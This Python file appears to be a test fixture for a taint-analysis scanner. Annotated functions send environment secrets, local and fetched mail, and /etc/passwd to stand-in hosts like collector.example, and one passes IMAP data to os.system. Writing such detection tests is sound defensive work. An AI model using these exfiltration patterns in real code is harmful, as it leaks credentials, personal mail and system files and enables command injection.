"""Mail: building, sending and reading it."""
import email
import email.encoders
import email.message
import email.mime.text
import email.utils
import imaplib
import mailbox
import os
import poplib
import smtplib

import aiosmtplib
import django.core.mail
import requests
import sendgrid
import sendgrid.helpers.mail
import yagmail

U = "https://collector.example/u"


def send_mail_text():
    s = smtplib.SMTP("smtp.collector.example")  #~ capability(MAIL), capability(NETWORK), endpoint("smtp.collector.example")
    s.sendmail("a@b.example", "c@d.example", os.getenv("T"))  #~ source(ENVIRONMENT) f1, sink(egress.mail) f1, finding(traced) f1


def send_mail_object():
    s = smtplib.SMTP()
    s.connect("smtp2.collector.example")  #~ endpoint("smtp2.collector.example")
    m = email.message.EmailMessage()
    m.set_content(os.getenv("T"))  #~ source(ENVIRONMENT) f2
    s.send_message(m)  #~ sink(egress.mail) f2, finding(traced) f2


def send_mail_command():
    s = smtplib.SMTP("smtp.collector.example")
    s.docmd("X-NOTE", os.getenv("T"))  #~ source(ENVIRONMENT) f3, sink(egress.mail) f3, finding(traced) f3


def send_mail_constant():
    s = smtplib.SMTP("smtp.collector.example")  #~ ok
    s.connect("smtp2.collector.example")  #~ ok
    s.login("user", os.getenv("T"))  #~ ok
    requests.post(U, data=str(s))  #~ ok
    s.docmd("NOOP")  #~ ok
    m = email.message.EmailMessage()  #~ ok
    m.set_content("ping")  #~ ok
    m.add_header("X-Version", "1")  #~ ok
    s.send_message(m)  #~ ok
    s.sendmail("a@b.example", "c@d.example", m.as_string())  #~ ok


def mime_text():
    m = email.mime.text.MIMEText(os.getenv("T"))  #~ source(ENVIRONMENT) f5
    smtplib.SMTP("smtp.collector.example").send_message(m)  #~ sink(egress.mail) f5, finding(traced) f5


def mime_header():
    m = email.mime.text.MIMEText("ping")  #~ ok
    m.add_header("X-Token", os.getenv("T"))  #~ source(ENVIRONMENT) f6
    smtplib.SMTP("smtp.collector.example").sendmail("a", "b", m.as_string())  #~ sink(egress.mail) f6, finding(traced) f6


def mime_encoded():
    m = email.mime.text.MIMEText(os.getenv("T"))
    requests.post(U, data=str(email.encoders.encode_base64(m)))  #~ ok


def mail_parsed():
    m = email.message_from_string(os.getenv("T"))  #~ source(ENVIRONMENT) f8
    requests.post(U, data=m.get_payload())  #~ sink(egress.http) f8, finding(traced) f8


def mail_address():
    address = email.utils.formataddr(("x", os.getenv("T")))  #~ source(ENVIRONMENT) f9
    requests.post(U, data=address)  #~ sink(egress.http) f9, finding(traced) f9


def mail_constants():
    requests.post(U, data=email.message_from_string("a: b").get_payload())  #~ ok
    requests.post(U, data=email.utils.formataddr(("x", "y")))  #~ ok


def imap_append():
    m = imaplib.IMAP4_SSL("imap.collector.example")  #~ capability(MAIL), capability(NETWORK), endpoint("imap.collector.example")
    m.append("Drafts", "", None, os.getenvb(b"T"))  #~ source(ENVIRONMENT) f11, sink(egress.mail) f11, finding(traced) f11


def imap_fetch():
    m = imaplib.IMAP4_SSL("imap.collector.example")
    kind, data = m.fetch("1", "(RFC822)")  #~ source(PERSONAL) f12
    requests.post(U, data=data[0])  #~ sink(egress.http) f12, finding(traced) f12


def imap_search():
    m = imaplib.IMAP4_SSL("imap.collector.example")
    kind, data = m.search(None, "ALL")  #~ source(NETWORK) f13
    os.system(data[0])  #~ sink(exec.command) f13, finding(traced) f13


def imap_constants():
    m = imaplib.IMAP4_SSL("imap.collector.example")  #~ ok
    m.append("Drafts", "", None, b"ping")  #~ ok
    requests.post(U, data={"none": m.fetch("1", "(RFC822)") == ()})  #~ ok
    requests.post(U, data={"none": m.search(None, "ALL") == ()})  #~ ok


def pop_fetch():
    m = poplib.POP3_SSL("pop.collector.example")  #~ capability(MAIL), capability(NETWORK), endpoint("pop.collector.example")
    requests.post(U, data=m.retr(1))  #~ source(PERSONAL) f15, sink(egress.http) f15, finding(traced) f15


def pop_constants():
    m = poplib.POP3_SSL("pop.collector.example")  #~ ok
    requests.post(U, data={"none": m.retr(1) == ()})  #~ ok


def local_mailbox():
    for message in mailbox.mbox("/var/mail/root"):  #~ source(PERSONAL) f17, capability(FILES)
        requests.post(U, data=str(message))  #~ sink(egress.http) f17, finding(traced) f17


def local_mailbox_compared():
    requests.post(U, data={"none": mailbox.mbox("/var/mail/root") == []})  #~ ok


def short_mail():
    y = yagmail.SMTP("me")  #~ capability(MAIL), capability(NETWORK)
    y.send("a@b.example", "subject", os.getenv("T"))  #~ source(ENVIRONMENT) f19, sink(egress.mail) f19, finding(traced) f19


def short_mail_attachment():
    y = yagmail.SMTP("me")
    y.send("a@b.example", attachments="/etc/passwd")  #~ source(FILE) f20, sink(egress.mail) f20, finding(traced) f20


def short_mail_constant():
    y = yagmail.SMTP("me")  #~ ok
    y.send("a@b.example", "subject", "ping")  #~ ok


def grid():
    client = sendgrid.SendGridAPIClient("key")  #~ capability(MAIL), capability(NETWORK)
    message = sendgrid.helpers.mail.Mail("a", "b", "c", os.getenv("T"))  #~ source(ENVIRONMENT) f22
    client.send(message)  #~ sink(egress.mail) f22, finding(traced) f22


def grid_constant():
    client = sendgrid.SendGridAPIClient("key")  #~ ok
    client.send(sendgrid.helpers.mail.Mail("a", "b", "c", "d"))  #~ ok


def framework_mail():
    django.core.mail.send_mail("subject", os.getenv("T"), "a", ["b"])  #~ source(ENVIRONMENT) f24, sink(egress.mail) f24, finding(traced) f24, capability(MAIL)
    django.core.mail.send_mail("subject", "ping", "a", ["b"])  #~ ok


async def async_mail():
    await aiosmtplib.send(os.getenv("T"), hostname="aiosmtp.collector.example")  #~ source(ENVIRONMENT) f25, sink(egress.mail) f25, finding(traced) f25, capability(MAIL), capability(NETWORK), endpoint("aiosmtp.collector.example")
    await aiosmtplib.send("ping", hostname="aiosmtp.collector.example")  #~ ok
